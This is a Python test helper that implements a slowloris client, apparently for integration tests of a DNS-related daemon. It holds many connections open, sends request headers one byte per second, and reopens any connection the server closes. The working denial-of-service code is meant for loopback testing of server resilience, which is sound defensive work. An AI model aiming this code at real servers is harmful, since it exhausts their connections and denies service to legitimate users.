#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""A slowloris client for the integration tests (loopback only).

Keeps PER connections from each source address to each target open, each
sending a request head one byte a second and never finishing it; a
connection the server closes is opened again after --reopen seconds (an
attacker would at once; a pause keeps the test's CPU for the daemon). Runs for DURATION seconds, then prints one line per target:
"TARGET opened=N closed_by_server=N held_at_end=N".

  slowloris.py --duration 12 --per 10 --source 127.0.9.1 --source 127.0.9.2 \
               --target 127.10.0.53:9200 --target 127.10.0.53:9201
"""
import argparse
import errno
import selectors
import socket
import time

HEAD = b"GET /mapping.csv HTTP/1.1\r\nHost: partdns.test\r\nX-Slow: " + b"a" * 16000


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--target", action="append", required=True, help="ADDR:PORT")
    ap.add_argument("--source", action="append", required=True, help="a loopback address to bind")
    ap.add_argument("--per", type=int, default=8, help="connections per source and target")
    ap.add_argument("--duration", type=float, default=10.0)
    ap.add_argument("--interval", type=float, default=1.0, help="seconds between bytes")
    ap.add_argument("--reopen", type=float, default=0.2, help="seconds before a closed connection is opened again")
    o = ap.parse_args()
    targets = []
    for t in o.target:
        host, port = t.rsplit(":", 1)
        targets.append((host, int(port)))
    sel = selectors.DefaultSelector()
    stats = {t: {"opened": 0, "closed": 0} for t in targets}
    conns = {}  # socket -> [target, source, bytes sent, next send time]
    reopen = []  # [when, target, source]

    def open_one(target, source):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.bind((source, 0))
            s.connect(target)
        except OSError as e:
            if e.errno not in (errno.EINPROGRESS, errno.EAGAIN):
                s.close()
                return
        conns[s] = [target, source, 0, time.monotonic()]
        sel.register(s, selectors.EVENT_READ)
        stats[target]["opened"] += 1

    def drop(s):
        target = conns.pop(s)[0]
        sel.unregister(s)
        s.close()
        stats[target]["closed"] += 1

    end = time.monotonic() + o.duration
    for t in targets:
        for src in o.source:
            for _ in range(o.per):
                open_one(t, src)
    while True:
        now = time.monotonic()
        if now >= end:
            break
        for key, _ in sel.select(timeout=0.05):
            s = key.fileobj
            try:
                data = s.recv(65536)
            except OSError:
                data = b""
            if not data and s in conns:  # closed by the server (or refused): come back at once
                target, src = conns[s][0], conns[s][1]
                drop(s)
                reopen.append([time.monotonic() + o.reopen, target, src])
        now = time.monotonic()
        for r in [r for r in reopen if r[0] <= now]:
            reopen.remove(r)
            open_one(r[1], r[2])
        for s, c in list(conns.items()):
            if c[3] > now:
                continue
            try:
                if s.send(HEAD[c[2]:c[2] + 1]) == 1:
                    c[2] += 1
            except BlockingIOError:
                pass
            except OSError:
                target, src = c[0], c[1]
                drop(s)
                reopen.append([now + o.reopen, target, src])
                continue
            c[3] = now + o.interval
    for t in targets:
        held = sum(1 for c in conns.values() if c[0] == t)
        print("%s:%d opened=%d closed_by_server=%d held_at_end=%d"
              % (t[0], t[1], stats[t]["opened"], stats[t]["closed"], held), flush=True)


if __name__ == "__main__":
    main()
